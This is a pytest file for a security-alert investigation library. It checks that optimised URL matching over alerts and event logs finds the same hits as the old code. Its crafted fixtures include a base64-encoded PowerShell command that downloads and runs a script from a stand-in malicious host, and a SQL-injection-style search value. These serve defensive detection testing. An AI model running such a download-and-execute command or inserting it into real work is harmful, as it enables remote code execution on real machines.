"""Issue 14: url_summary's faster paths give what the old ones gave.

- alerts: the indicator search runs only on alerts whose entities could name the
  host (`may_hide_host`); the old per-alert match is kept below as the reference
  and compared on the demo store's alerts and on crafted hostile ones (JSON escapes,
  encoded PowerShell hiding the URL, upper case, an address spelled otherwise);
- log lines: the cheaper SQL (a "-e"/"/e" test before the encoded-command regex,
  Event searched column by column) returns the rows the old SQL returned.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pandas as pd
import pytest

from nbcatalog.nblib import Investigation, urls
from nbcatalog.nblib.alerts import normalize_alerts

URLS = [
    "http://malicious.example/payload.ps1",
    "http://MALICIOUS.example/other",
    "https://contoso.com/",
    "http://203.0.113.77/x",
    "http://[2001:db8::1]/x",
    "http://nothing.example/",
]


def _old_alert_match(alert: dict, parts: dict) -> str:
    """urls._alert_match before issue 14: the indicator search on every alert."""
    from nbcatalog.nblib.alert_ti import alert_iocs

    found = ""
    for field in ("Entities", "Description", "ExtendedProperties", "AlertDisplayName"):
        how = urls.matched_on(alert.get(field), parts)
        if how == "url":
            return how
        found = found or how
    iocs = alert_iocs(pd.DataFrame([{"SystemAlertId": "", "Entities": alert.get("Entities")}]))
    for value in iocs["Ioc"]:
        how = urls.matched_on(str(value), parts)
        if how == "url":
            return how
        found = found or how
    return found


def _encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


CRAFTED = [
    # The URL only inside an encoded PowerShell command of a process entity.
    [{"Type": "process", "CommandLine": "powershell -nop -enc "
      + _encoded("iwr http://malicious.example/payload.ps1 | iex")}],
    # JSON escapes: the raw text does not hold the host, the parsed text does.
    '[{"Type": "url", "Url": "http:\\/\\/malicious\\u002eexample\\/payload.ps1"}]',
    # Upper case host in a dns entity; an address written another way.
    [{"Type": "dns", "DomainName": "MALICIOUS.EXAMPLE."}],
    [{"Type": "ip", "Address": "2001:DB8:0::1"}],
    # Not JSON at all: searched as text.
    "broken [ {json with http://malicious.example/payload.ps1",
    # Nothing: a host entity only.
    [{"Type": "host", "HostName": "WKSTN-042", "DnsDomain": "contoso.com"}],
    None,
]  # fmt: skip


@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize("entities", CRAFTED)
def test_alert_match_equals_the_old_one_on_crafted_alerts(url: str, entities: object) -> None:
    parts = urls.url_parts(url)
    text = entities if entities is None or isinstance(entities, str) else json.dumps(entities)
    alert = {"Entities": text, "Description": "", "AlertDisplayName": "x"}
    assert urls._alert_match(alert, parts) == _old_alert_match(alert, parts)


def test_crafted_alerts_do_match() -> None:
    """The comparisons above are not all empty: the hidden URL is found both ways."""
    parts = urls.url_parts(URLS[0])
    hits = [
        urls._alert_match({"Entities": e if isinstance(e, str) else json.dumps(e)}, parts)
        for e in CRAFTED[:3]
    ]
    assert hits == ["url", "url", "domain"]


@pytest.fixture(scope="module")
def inv(demo_db: Path) -> Investigation:
    return Investigation.open(
        f"duckdb:{demo_db}", "2020-01-01T00:00:00Z", pd.Timestamp.now(tz="UTC").isoformat()
    )


@pytest.mark.parametrize("url", URLS)
def test_url_alerts_equal_the_old_per_alert_match(inv: Investigation, url: str) -> None:
    parts = urls.url_parts(url)
    everything = normalize_alerts(inv.query("SecurityAlert.list_alerts", title="t").data)
    want = [_old_alert_match(r, parts) for r in everything.to_dict("records")]
    got = urls.url_alerts(inv, parts).data
    expected = everything.assign(MatchedOn=want)
    expected = expected[expected["MatchedOn"] != ""].reset_index(drop=True)
    assert list(got["SystemAlertId"]) == list(expected["SystemAlertId"])
    assert list(got["MatchedOn"]) == list(expected["MatchedOn"])
    if url == URLS[0]:
        assert not got.empty


# The sighting SQL before issue 14 (SecurityEvent and Event; Syslog is unchanged).
_OLD_SIGHTING_SQL = {
    "SecurityEvent": 'SELECT TimeGenerated, Computer, CommandLine AS Text FROM "SecurityEvent" '
    "WHERE EventID = 4688 AND TimeGenerated >= $start AND TimeGenerated <= $end "
    "AND (contains(lower(CommandLine), $needle) OR regexp_matches(CommandLine, $encoded))",
    "Event": "SELECT TimeGenerated, Computer, "
    "concat_ws(' ', Source, 'event', EventID, RenderedDescription, EventData) AS Text "
    'FROM "Event" WHERE TimeGenerated >= $start AND TimeGenerated <= $end '
    "AND contains(lower(concat_ws(' ', RenderedDescription, EventData)), $needle)",
}


@pytest.mark.parametrize("table", sorted(_OLD_SIGHTING_SQL))
@pytest.mark.parametrize("needle", ["malicious.example", "contoso.com", "powershell", "x' or '1"])
def test_sighting_sql_returns_the_old_rows(inv: Investigation, table: str, needle: str) -> None:
    params = {"start": inv.start, "end": inv.end, "needle": needle}
    if table == "SecurityEvent":
        params["encoded"] = urls._ENCODED_SQL
    order = " ORDER BY ALL"
    got = inv.source.sql(urls._SIGHTING_SQL[table][1] + order, params)
    want = inv.source.sql(_OLD_SIGHTING_SQL[table] + order, params)
    pd.testing.assert_frame_equal(got, want)
    if needle == "malicious.example":
        assert not got.empty


def test_sightings_of_the_planted_url_are_found(inv: Investigation) -> None:
    found = urls.url_sightings(inv, urls.url_parts(URLS[0])).data
    assert set(found["Source"]) >= {"syslog message", "Windows event"}
    assert "process command line (decoded)" in set(found["Source"]) or (
        "process command line" in set(found["Source"])
    )
